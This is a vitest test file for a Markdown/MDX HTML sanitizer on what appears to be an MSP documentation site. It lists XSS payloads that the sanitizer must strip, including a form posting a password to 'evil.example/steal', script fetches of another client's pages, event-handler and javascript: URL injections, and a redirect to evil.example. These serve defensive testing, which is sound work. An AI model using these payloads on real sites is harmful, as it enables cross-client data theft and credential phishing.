import { satteriHeadingIdsPlugin } from '@astrojs/markdown-satteri';
import { markdownToHtml, mdxToJs } from 'satteri';
import { describe, expect, it } from 'vitest';
import { generateSyntheticMsp } from '../../bench/synthetic/generate-msp.ts';
import { headingIdsOf } from '../core/content-links.ts';
import { sanitizeContentHtml, sanitizeContentHtmlFully } from './markdown-plugins.ts';

/**
 * The site's content plugins through Sätteri itself (the engine Astro runs), without a site build:
 * test/site/site-build.test.ts builds a real site with them.
 */
const render = (markdown: string) => markdownToHtml(markdown, { hastPlugins: [sanitizeContentHtml] }).html;

// What technicians might paste into a binder section or tech note (the audit's, and issue 10's).
const PAYLOADS = [
  "<script>fetch('/clients/other-client/binder/firewall/')</script>",
  '<img src=x onerror="fetch(\'/clients/other-client/\')">',
  "<img src=x onerror=fetch('/clients/other-client/')>",
  '<svg onload="alert(1)"><circle r="5"/></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<details ontoggle="alert(1)" open><summary>open me</summary>toggled</details>',
  '<a href="javascript:alert(1)">raw link</a>',
  "[markdown link](javascript:alert('md'))",
  '<javascript:alert(1)>',
  '[a](JaVaScRiPt:alert(1))',
  '<a href="jav&#x09;ascript:alert(1)">ent</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<form action="https://evil.example/steal"><input type="password" name="pw"><button formaction="javascript:alert(1)">Log in</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">overlay</p>',
  '<object data="x"></object><embed src="x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
];

describe('sanitizeContentHtml', () => {
  it.each(PAYLOADS)('drops what runs, frames or asks: %s', async (payload) => {
    const html = render(`Before.\n\n${payload}\n\nAfter.\n`);
    // Judged on tags: a payload that is not HTML to begin with is shown as its text, escaped.
    expect(html).not.toMatch(
      /<(?:script|style|iframe|object|embed|form|input|button|base|meta|math|circle)\b/i,
    );
    expect(html).not.toMatch(/<[^>]*\s(?:on[a-z]+|style)\s*=/i);
    expect(html).not.toMatch(/<[^>]*\s(?:href|src|action|formaction)\s*=\s*"?\s*(?:javascript|data):/i);
    expect(html).toContain('After.');
  });

  it('keeps the HTML people use in binders, tables and task lists as Markdown makes them', async () => {
    const html = render(
      [
        '| Port | Use |',
        '|:-----|----:|',
        '| 443 | <kbd>HTTPS</kbd> |',
        '',
        '- [x] Tested',
        '',
        'A <abbr title="Uninterruptible power supply">UPS</abbr> line<br>break, H<sub>2</sub>O, x<sup>2</sup>, <mark>new</mark>.',
        '',
        '<details>',
        '<summary>Old firewall rules</summary>',
        '',
        'Kept for **reference**.',
        '',
        '</details>',
        '',
        'Mail <a href="mailto:help@example.com">help</a>, see <a href="https://example.com/docs">the docs</a>.',
        '',
        '![Rack](https://example.com/rack.png)',
      ].join('\n'),
    );
    expect(html).toContain('<th style="text-align: left">Port</th>');
    expect(html).toContain('<td style="text-align: right"><kbd>HTTPS</kbd></td>');
    expect(html).toContain('<input type="checkbox" checked disabled>');
    expect(html).toContain('<abbr title="Uninterruptible power supply">UPS</abbr>');
    expect(html).toMatch(/line<br>break, H<sub>2<\/sub>O, x<sup>2<\/sup>, <mark>new<\/mark>/);
    expect(html).toMatch(
      /<details>\s*<summary>Old firewall rules<\/summary>\s*<p>Kept for <strong>reference<\/strong>.<\/p>\s*<\/details>/,
    );
    expect(html).toContain('<a href="mailto:help@example.com">help</a>');
    expect(html).toContain('<a href="https://example.com/docs">the docs</a>');
    expect(html).toContain('<img src="https://example.com/rack.png" alt="Rack">');
  });

  it('parses raw HTML links into elements, so relative ones can be resolved like Markdown links', async () => {
    const hrefs: unknown[] = [];
    const { html } = markdownToHtml('See <a href="./overview.md#wan">the overview</a>.', {
      hastPlugins: [
        sanitizeContentHtml,
        { name: 'probe', element: { filter: ['a'], visit: (node) => void hrefs.push(node.properties.href) } },
      ],
    });
    expect(hrefs).toEqual(['./overview.md#wan']);
    expect(html.trim()).toBe('<p>See <a href="./overview.md#wan">the overview</a>.</p>');
  });

  it('drops HTML comments, raw or in a block (a staff-only remark never ships)', async () => {
    const html = render(
      'Text <!-- staff only: inline --> here.\n\n<!-- staff only: the NAS admin is shared -->\n',
    );
    expect(html).not.toContain('staff only');
    expect(html).toContain('Text  here.');
  });

  it('keeps footnotes working (ids prefixed once, as their links expect)', async () => {
    const html = render('Claim[^1].\n\n[^1]: Source.\n');
    expect(html).toContain('href="#user-content-fn-1" id="user-content-fnref-1"');
    expect(html).toContain('<li id="user-content-fn-1">');
    expect(html).toContain('href="#user-content-fnref-1"');
  });

  it('keeps a code block’s language and meta for the highlighter', async () => {
    const meta: unknown[] = [];
    markdownToHtml('<b>raw</b>\n\n```sh title="backup.sh"\nrestic backup\n```\n', {
      hastPlugins: [
        sanitizeContentHtml,
        {
          name: 'probe',
          element: { filter: ['code'], visit: (node) => void meta.push(node.data) },
        },
      ],
    });
    expect(meta).toEqual([{ lang: 'sh', meta: 'title="backup.sh"' }]);
  });

  it('a page without raw HTML, checked for its URLs only, comes out as the whole sanitizer makes it', async () => {
    const synthetic = generateSyntheticMsp({ clients: 8, months: 2, seed: 'fast-path' })
      .files.filter((file) => /\/(binder|notes)\/|\/index\.md$/.test(file.path))
      .map((file) => file.text.replace(/^---[\s\S]*?\n---\n/, ''));
    const crafted = [
      '| Port | Use |\n|:--|--:|\n| 443 | `https` |\n\n- [x] done\n- [ ] not yet\n\n1. one\n2. two',
      'Claim[^1] and [ref][r].\n\n[^1]: Source.\n\n[r]: https://example.com/ "Title"',
      '[js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1)) <javascript:alert(1)> [data](data:text/html,x) [vb](vbscript:x)',
      '![img](data:image/png;base64,AAAA) ![ok](https://example.com/x.png "t") ![rel](./rack.jpg)',
      '[mail](mailto:help@example.com) https://auto.example www.example.com [rel](./backups.md#wan) [anchor](#top)',
      '> quote with **bold**, _em_, ~~del~~ and `code`\n\n```sh title="x.sh"\necho hi\n```\n\n---\n\n# H1\n\n### H3',
    ];
    const corpus = [...synthetic, ...crafted];
    expect(corpus.length).toBeGreaterThan(60);
    for (const markdown of corpus) {
      const fast = markdownToHtml(markdown, { hastPlugins: [sanitizeContentHtml] });
      const full = markdownToHtml(markdown, { hastPlugins: [sanitizeContentHtmlFully] });
      // One difference, consistent within each page: the engine names its footnotes' heading
      // `footnote-label`, which the whole sanitizer prefixes like any id (and the reference to it).
      expect(fast.html).toBe(full.html.replaceAll('user-content-footnote-label', 'footnote-label'));
    }
  });

  it('in MDX, sanitizes HTML elements and keeps Starlight components, dropping their unsafe links', async () => {
    const { code } = mdxToJs(
      [
        "import { Aside, LinkCard } from '@astrojs/starlight/components';",
        '',
        '<Aside type="note">Hi <b onclick="alert(1)">there</b></Aside>',
        '',
        '<img src="x" onerror="alert(1)" />',
        '',
        '<script>alert(2)</script>',
        '',
        '<LinkCard title="Bad" href="javascript:alert(3)" />',
        '<LinkCard title="Good" href="https://example.com/" />',
        '',
        '<kbd>Ctrl</kbd>',
      ].join('\n'),
      { hastPlugins: [sanitizeContentHtml], jsxImportSource: 'astro', elementAttributeNameCase: 'html' },
    );
    expect(code).toContain('import { Aside, LinkCard } from "@astrojs/starlight/components"');
    expect(code).toMatch(/_jsxs?\(Aside, \{\s*type: "note"/);
    expect(code).not.toMatch(/onclick|onerror|alert\(|javascript:/);
    expect(code).toContain('href: "https://example.com/"');
    expect(code).toMatch(/kbd/);
  });
});

describe('heading ids', () => {
  it('binder check computes the ids the Markdown engine gives headings (anchors it checks)', async () => {
    const markdown = [
      "## Who's who",
      '## A -- B --- C',
      '## Wait...',
      '## "Quoted" text',
      '## Café & Co',
      '## Ports `443` and <kbd>22</kbd>',
      '## Notes',
      '## Notes',
      '## Link [here](https://example.com/)',
      '## Image ![alt](https://example.com/x.png) after',
      '## Über-Größe',
      '## x_y *em*',
    ].join('\n\n');
    const { html } = await markdownToHtml(markdown, {
      // As Astro runs them: our plugins, then its heading ids, with smart punctuation on.
      hastPlugins: [sanitizeContentHtml, satteriHeadingIdsPlugin()],
      features: { gfm: true, smartPunctuation: true },
      data: {
        astro: { headings: [], frontmatter: {}, localImagePaths: new Set(), remoteImagePaths: new Set() },
      },
    });
    const engine = [...html.matchAll(/<h2 id="([^"]+)"/g)].map((match) => match[1]);
    expect(engine).toHaveLength(12);
    expect([...headingIdsOf(markdown)].filter((id) => id !== '_top' && id !== 'top')).toEqual(engine);
  });
});
